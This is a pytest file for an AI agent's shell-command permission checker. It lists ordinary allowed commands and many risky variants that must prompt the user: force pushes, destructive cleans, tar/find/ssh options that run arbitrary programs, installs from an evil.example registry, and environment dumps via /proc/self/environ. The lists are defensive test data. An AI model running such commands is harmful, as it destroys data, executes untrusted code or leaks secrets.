"""What a prefix that a person wrote by hand lets through: plain words and known options. Others are asked about, by name."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.shell_lines import ToldFacts, judged, rule

ORDINARY = """
npm run | npm run test -- --watch
npm run | npm run build
npm run | npm run test -- --coverage -t name
npm | npm install @types/node --save-dev
npm | npm ci --no-audit --no-fund
npm | npm --silent test
npm | npm ls --depth=0
npm | npm rm left-pad
npm test | npm test --workspace a
yarn | yarn build
yarn | yarn add -D vitest
yarn | yarn test --watch
pnpm | pnpm -r build
pnpm | pnpm --filter web test
npx vitest | npx vitest run --coverage src/a.test.ts
npx tsc | npx tsc --noEmit -p tsconfig.json
npx eslint | npx eslint --fix src --ext .ts,.tsx
npx prettier | npx prettier --check src
uv run pytest | uv run pytest -x -q tests
uv | uv sync --frozen
uv | uv pip install requests
poetry | poetry install --no-root
uv run -q pytest | uv run -q pytest tests
yarn workspace | yarn workspace a test
conda run -n a pytest | conda run -n a pytest tests
poetry run pytest | poetry run pytest -k name
bundle exec rspec | bundle exec rspec spec/a_spec.rb
pytest | pytest
pytest | pytest -x -vv --tb=short tests/a.py::test_b
pytest | pytest -k 'a and not b' --maxfail=1 -n 4
pytest | pytest --lf --durations=10 --cov=src --cov-report=term-missing
pytest | pytest -q --no-header -rA tests
python3 -m pytest | python3 -m pytest -q -x tests
python3 manage.py | python3 manage.py test shop --verbosity 2
python3 tool.py | python3 tool.py --json out.txt
make | make
make | make -j4 -s test
make | make -C fw/test
make | make test VERBOSE=1
make test | make test -j4 -k
make check | make check
cargo | cargo build --release
cargo | cargo test --workspace -- --nocapture
cargo | cargo clippy --all-targets -- -D warnings
cargo test | cargo test -p core name
go test | go test ./... -race -count=1
go test | go test -run TestX -v ./pkg
go build | go build -o bin/app ./cmd/app
go vet | go vet ./...
go mod tidy | go mod tidy
tsc | tsc --noEmit
eslint | eslint src --max-warnings 0
prettier | prettier --write src/a.ts
mypy | mypy --strict src
ruff | ruff check --fix src
ruff check | ruff check --select E,F src
black | black --check .
isort | isort --profile black src
pyright | pyright src --outputjson
gradle | gradle test --tests '*Sync*' --info
gradle test | gradle test --no-daemon
mvn | mvn -q -B test
dotnet test | dotnet test --no-build -c Release
flutter | flutter test
dart run tool/count.dart | dart run tool/count.dart --list a.json
cmake | cmake -B build -S . -DCMAKE_BUILD_TYPE=Release
cmake --build | cmake --build build -j 8 --target all
cmake | cmake -DBUILD_TESTING=ON .
ctest | ctest --output-on-failure -j4
ninja | ninja -v test
gcc | gcc -O2 -Wall -Wextra -std=c11 -Iinclude -o a a.c -lm
git push | git push
git push | git push -u origin topic
git push | git push origin HEAD:topic --tags
git pull | git pull --rebase --autostash
git fetch | git fetch --all --prune
git checkout | git checkout -b topic
git switch | git switch -c topic main
git merge | git merge --no-ff topic -m 'a merge'
git rebase | git rebase --continue
git stash | git stash push -u -m 'for later'
git stash | git stash pop
git restore | git restore --staged a.py
git cherry-pick | git cherry-pick -x abc123
git commit | git commit -am 'message' --no-verify
git add | git add -A
git reset | git reset --soft HEAD~1
git rm | git rm -r --cached build
git clone | git clone --depth 1 https://example.org/x.git
gh | gh pr list --limit 5 --json number,title
gh pr | gh pr view 12 --comments
gh run | gh run view 5 --log-failed
pip install | pip install -r requirements.txt
pip install | pip install -e '.[dev]' -q
pip | pip list --outdated
curl | curl -sSL -H 'Accept: text/html' https://example.org/
curl | curl -fsS -X POST -d a=b http://localhost:8080/x
wget | wget -q -O page.html https://example.org/
jq | jq -r name a.json
ps | ps aux
ps | ps -ef
df | df -h
date | date +%F
date | date -u +%Y-%m-%dT%H:%M:%SZ
cp | cp -r src/a src/b
mv | mv a.txt b.txt
chmod | chmod +x tool.txt
tar | tar -xzf a.tgz
tar | tar xzf a.tgz
tar | tar -czf out.tgz src
rsync -a | rsync -a --exclude node_modules src/ out/
apt-get install | apt-get install -y curl
sleep | sleep 5
docs build | docs build --verbose --no-pager
gadget | gadget --dry-run --jobs=4 -v in.txt
gadget --deep | gadget --deep x --deep
""".strip().splitlines()

STRANGE = """
git push | git push --force
git push | git push -f
git push | git push -fu origin x
git push | git push --force-with-lease
git push | git push origin +main
git push | git push origin :old
git push | git push --delete origin old
git push | git push -d origin old
git push | git push --mirror
git push | git push --prune origin
git push | git push --no-verify
git push | git push --exec=./x origin
git push | git push ext::sh
git branch | git branch -D topic
git branch | git branch -f topic x
git tag | git tag -d v1
git reset | git reset --hard
git checkout | git checkout -f
git checkout | git checkout -B main x
git switch | git switch --discard-changes main
git clean | git clean -fdx
git rm | git rm -f a.py
git worktree | git worktree remove --force x
git archive | git archive --remote=ext::x HEAD
git archive | git archive --remote ext::x HEAD
git fetch | git fetch --upload-pack=x
git gc | git gc --prune=now
git commit | git commit --gpg-sign=x
openssl | openssl dgst -engine ./x a
openssl dgst | openssl dgst -provider-path . a
bazel build | bazel --bazelrc=x build
bazel | bazel --bazelrc=x build
bazel build | bazel build --run_under=x //a
cmake | cmake -DCMAKE_C_COMPILER=./x .
cmake | cmake -DCMAKE_TOOLCHAIN_FILE=x .
cmake | cmake -C x .
cmake | cmake --toolchain x .
pytest | pytest @args
pytest | pytest -p plugin
pytest | pytest --rootdir x
pytest | pytest -W error::evil.Kind
pytest | pytest --confcutdir=x --ignore=y
yarn | yarn exec evil
yarn | yarn dlx evil
yarn | yarn node x
yarn | yarn --cwd other build
yarn | yarn --use-yarnrc x
npm | npm exec evil
npm | npm x evil
npm | npm init evil
npm | npm create evil
npm | npm explore a -- evil
npm | npm -w a exec evil
npm exec -w a | npm exec -w a evil
pnpm | pnpm --filter a exec evil
pnpm | pnpm -r exec evil
yarn | yarn workspace a exec evil
conda run -n a | conda run -n a evil
uv run -q | uv run -q evil
git stash | git stash clear
git stash | git stash drop
git remote | git remote remove origin
git worktree | git worktree remove x
git reflog | git reflog expire
git fetch | git fetch origin +main:main
aws | aws s3 rm x
aws | aws s3api delete-bucket x
cargo | cargo publish
npm | npm publish
npm run | npm run build --trace=./x
npm | npm unpublish a
npm run | npm run build --script-shell=x
npm run | npm run build --prefix other
npm run | npm run test -- --config evil.js
npm run | npm run test -- --config=evil.js
npm run | npm run lint -- -c evil.js
npm install | npm install --registry=https://evil.example x
npm install | npm install -g x
npx | npx evil
npx vitest | npx vitest --globalSetup x
npx vitest | npx -p evil vitest
uv run | uv run evil
uv run pytest | uv run --with evil pytest
uv | uv run evil
uv | uv tool run evil
poetry | poetry run evil
poetry run | poetry run sh
bundle exec | bundle exec evil
conda | conda run -n a evil
hyperfine | hyperfine evil
nodemon | nodemon evil.js
make | make -f other
make | make -sf other
make | make --file=other
make | make CC=./x
make | make --eval=x
make test | make test -Cevil
make test | make test -C evil
make test | make test --directory=evil
make test | make test -Ievil
tar | tar -cf a.tar --checkpoint-action=exec=x src
tar | tar -cf a.tar --checkpoint=1 src
tar | tar -xf a.tar --to-command=x
tar | tar -I x -xf a.tar
tar | tar --use-compress-program=x -xf a.tar
tar | tar -cf host:a src --rsh-command=x
find | find . -exec x
find . | find . -name a -exec x {} +
rsync -a | rsync -a -e x a b
rsync -a | rsync -a --rsh=x a b
rsync -a | rsync -a --delete a b
rsync -a | rsync -a --remove-source-files a b
ssh host | ssh host -oProxyCommand=x
scp | scp -o ProxyCommand=x a b:c
scp | scp -S x a b:c
sftp | sftp -D x
go build | go build -toolexec x
go build | go build -toolexec=./x ./...
go test | go test -exec x
go test | go test -overlay=x
go build | go build -ldflags=-extld=x
go build | go build -C other
go vet | go vet -vettool=x
cargo | cargo --config x build
cargo | cargo build --config=x
cargo | cargo build --manifest-path=x/Cargo.toml
cargo | cargo -Z unstable build
cargo build | cargo build --target-dir=/x
docker | docker run -v /:/ x
docker run | docker run -v /:/ x
rg | rg --pre x y
rg | rg --hostname-bin=x y
sort | sort --compress-program=x a
sort | sort -T x --compress-prog=x a
man | man -P x ls
man | man --pager=x ls
man ls | man ls -P x
less | less a '+!x'
awk | awk 'BEGIN{system("x")}'
gawk -f a.awk | gawk -f a.awk -l evil
perl a.pl | perl a.pl -Mevil
gcc | gcc -fplugin=x a.c
gcc | gcc -wrapper x a.c
gcc | gcc -B x a.c
gcc | gcc @args
gcc | gcc -Wl,-plugin,x a.c
gcc | gcc -specs=x a.c
javac | javac -processorpath x A.java
javac | javac -J-javaagent:x A.java
javac | javac @args
mvn | mvn -Dexec.executable=x test
mvn | mvn -f other test
mvn | mvn -gs x test
gradle | gradle -I x test
gradle | gradle --init-script x test
gradle test | gradle test -p other
gh | gh api -X DELETE /x
gh | gh repo delete x
gh | gh pr merge 1 --admin
gh | gh alias set x y
kubectl get | kubectl get pods --kubeconfig=x
pip install | pip install --index-url https://evil.example x
pip install | pip install -i https://evil.example x
pip install | pip install --config-settings=x=y .
pip install | pip install --target=x y
mypy | mypy --config-file x
ruff | ruff check --config x
black | black --config x .
isort | isort --settings-path x .
eslint | eslint -c x src
eslint | eslint --rulesdir x src
eslint | eslint --resolve-plugins-relative-to x src
prettier | prettier --plugin=x a
curl | curl -K x
curl | curl --config x
curl | curl -k https://x
curl | curl --insecure https://x
curl | curl --proxy evil:1 https://x
curl | curl -T a.txt https://x
curl | curl --unix-socket x http://y
wget | wget --no-check-certificate https://x
wget | wget -e use_proxy=on https://x
date | date -s x
ps | ps e
ps | ps auxe
date | date -f a.txt
chromium | chromium --no-sandbox x
gadget | gadget --force
gadget | gadget -f
gadget | gadget --delete x
gadget | gadget --no-verify
gadget | gadget --loader x
gadget | gadget --engine=x
gadget | gadget -Cevil
gadget | gadget -C evil
gadget | gadget --yes
gadget | gadget @args
gadget | gadget +x
gadget | gadget -- --engine x
gadget a | gadget a --unheard-of
""".strip().splitlines()


def told(line: str) -> tuple[tuple[str, ...], str]:
    by_hand, _, line = line.partition(" | ")
    return tuple(shlex.split(by_hand)), line


@pytest.mark.parametrize("case", ORDINARY)
def test_the_lines_of_a_day_run_by_a_rule_that_is_written_by_hand(case: str) -> None:
    words, line = told(case)
    everything = ToldFacts(guarded=frozenset(), writable=frozenset())
    verdict = judged(line, rule(*words), files=everything)
    assert (verdict.decision, verdict.reason) == ("allow", "")


@pytest.mark.parametrize("case", STRANGE)
def test_an_option_that_forces_deletes_loads_or_leads_elsewhere_is_asked_about(case: str) -> None:
    words, line = told(case)
    files = ToldFacts(guarded=frozenset(), folders=frozenset(("/",)))
    verdict = judged(line, rule(*words), files=files)
    assert verdict.decision == "ask"
    assert verdict.reason


def test_the_question_names_the_word_that_the_rule_does_not() -> None:
    verdict = judged("git push --force origin", rule("git", "push"))
    assert verdict.reason == "the rule for `git push` does not name `--force`"
    assert judged("git push --force origin", rule("git", "push", "--force")).decision == "allow"
    assert judged("gadget --engine=x a", rule("gadget")).suggested == rule("gadget", "--engine=x", "a", exact=True)


def test_a_file_that_a_rule_forbids_stays_forbidden_behind_an_option_that_it_does_not_name() -> None:
    files = ToldFacts(unreadable=frozenset(("/home/me/project/plan",)))
    assert judged("gadget --plugin=plan", rule("gadget"), files=files).decision == "deny"


@pytest.mark.parametrize(
    "line",
    [
        "env",
        "env | rev",
        "printenv KEY | rev",
        "cat /proc/self/environ | rev",
        "rev /proc/1/environ",
        "echo $KEY | rev",
    ],
)
def test_the_environment_is_shown_in_no_form_unasked(line: str) -> None:
    assert judged(line, rule("rev"), rule("cat")).decision == "ask"


NAME = st.from_regex(r"[a-z][a-z-]{3,12}", fullmatch=True)


@given(NAME, st.sampled_from(["", " y", "=y", "=./y"]))
def test_no_option_of_a_program_that_is_not_known_runs_by_its_name_alone(name: str, value: str) -> None:
    from gemini_companion.tools.shell.running import unnamed_word

    words = ("gadget", *f"--{name}{value}".split())
    common = {
        "color",
        "colors",
        "colour",
        "debug",
        "dry-run",
        "help",
        "info",
        "json",
        "list",
        "long",
        "offline",
        "plain",
    }
    common |= {"pretty", "progress", "quiet", "short", "silent", "stat", "stats", "status", "summary", "trace"}
    common |= {"verbose", "version", "watch"}
    is_off = name.startswith("no-") and not value.startswith("=")
    if name not in common and not is_off:
        assert unnamed_word("gadget", words, 1, lambda _: False) == words[1]
    assert unnamed_word("gadget", words, len(words), lambda _: False) == ""
